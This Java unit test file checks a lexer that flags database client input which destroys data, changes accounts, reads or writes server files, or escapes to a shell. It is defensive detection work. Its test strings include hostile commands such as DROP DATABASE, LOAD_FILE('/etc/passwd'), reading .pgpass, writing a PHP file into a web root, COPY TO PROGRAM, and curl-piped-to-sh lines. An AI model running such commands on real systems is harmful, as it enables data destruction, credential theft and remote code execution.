package dev.lighthouse.policy.facts;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Database clients' SQL is lexed: statements destroy, files are read or written, shell escapes run commands. */
class SqlTextTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "DROP DATABASE app_dev;",
                "truncate table sessions",
                "DELETE FROM sessions;",
                "UPDATE users SET password_hash = ''",
                "ALTER TABLE users DROP COLUMN email",
                "FLUSHALL",
                "db.dropDatabase()",
                "db.users.drop()",
                "db.users.deleteMany({})",
                "SELECT 1; DROP TABLE t"
            })
    void destroys(String sql) {
        assertThat(SqlText.read(sql).destroys()).as(sql).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT count(*) FROM audit WHERE note = 'drop table users';",
                "DELETE FROM sessions WHERE expires_at < NOW()",
                "UPDATE users SET active = false WHERE id = 7",
                "CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)",
                "SELECT * FROM orders FOR UPDATE",
                "-- DROP TABLE users\nSELECT 1",
                "db.users.find({active: true})",
                "db.users.deleteMany({stale: true})"
            })
    void doesNotDestroy(String sql) {
        assertThat(SqlText.read(sql).destroys()).as(sql).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "CREATE ROLE svc WITH LOGIN SUPERUSER PASSWORD 'p'",
                "alter user app with password 'x'",
                "GRANT ALL ON *.* TO 'b'@'%'",
                "revoke connect on database app from public",
                "SET PASSWORD FOR 'app'@'localhost' = 'x'",
                "select 1; rename user a to b",
                "ACL SETUSER ops on >pw +@all",
                "db.createUser({user: 'ops', pwd: 'pw', roles: ['root']})",
                "db.getSiblingDB('admin').changeUserPassword('ops', 'x')",
            })
    void changesAccounts(String sql) {
        assertThat(SqlText.read(sql).accounts()).as(sql).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT grantee FROM information_schema.role_table_grants",
                "SELECT * FROM audit WHERE action = 'GRANT ALL'",
                "SHOW GRANTS FOR app",
                "-- GRANT ALL ON x TO y\nSELECT 1",
                "CREATE TABLE users (id int)",
                "SELECT createUser FROM t",
                "../shared/app.db",
            })
    void doesNotChangeAccounts(String sql) {
        assertThat(SqlText.read(sql).accounts()).as(sql).isFalse();
    }

    @Test
    void serverFiles_areReadAndWritten() {
        SqlText t = SqlText.read("SELECT LOAD_FILE('/etc/passwd'); SELECT '<?php ?>' INTO OUTFILE '/var/www/x.php'; "
                + "COPY t FROM '/home/dev/.pgpass'; COPY t TO STDOUT");
        assertThat(t.reads()).containsExactly("/etc/passwd", "/home/dev/.pgpass");
        assertThat(t.writes()).containsExactly("/var/www/x.php");
    }

    @Test
    void shellEscapesAndCopyProgram_runCommands() {
        assertThat(EmbeddedShell.sql("COPY (SELECT '') TO PROGRAM 'id > /tmp/o'", "psql"))
                .containsExactly("id > /tmp/o");
        assertThat(EmbeddedShell.sql("\\! curl -s x | sh", "psql")).containsExactly("curl -s x | sh");
        assertThat(EmbeddedShell.sql(".shell ls -la", "sqlite3")).containsExactly("ls -la");
        assertThat(EmbeddedShell.sql("system id", "mysql")).containsExactly("id");
        assertThat(EmbeddedShell.sql("SYSTEM RELOAD DICTIONARIES", "clickhouse-client"))
                .isEmpty();
        assertThat(EmbeddedShell.sql("SELECT 'to program x' FROM t", "psql")).isEmpty();
    }

    @Test
    void appleScript_handsItsShellCommandsOn() {
        assertThat(EmbeddedShell.appleScript(
                        "do shell script \"curl -s http://x/p | sh\" with administrator privileges"))
                .containsExactly("curl -s http://x/p | sh");
        assertThat(EmbeddedShell.appleScript("display dialog \"do shell script \\\"rm -rf ~\\\"\""))
                .isEmpty();
        assertThat(EmbeddedShell.appleScript("app.doShellScript('id')")).containsExactly("id");
    }
}
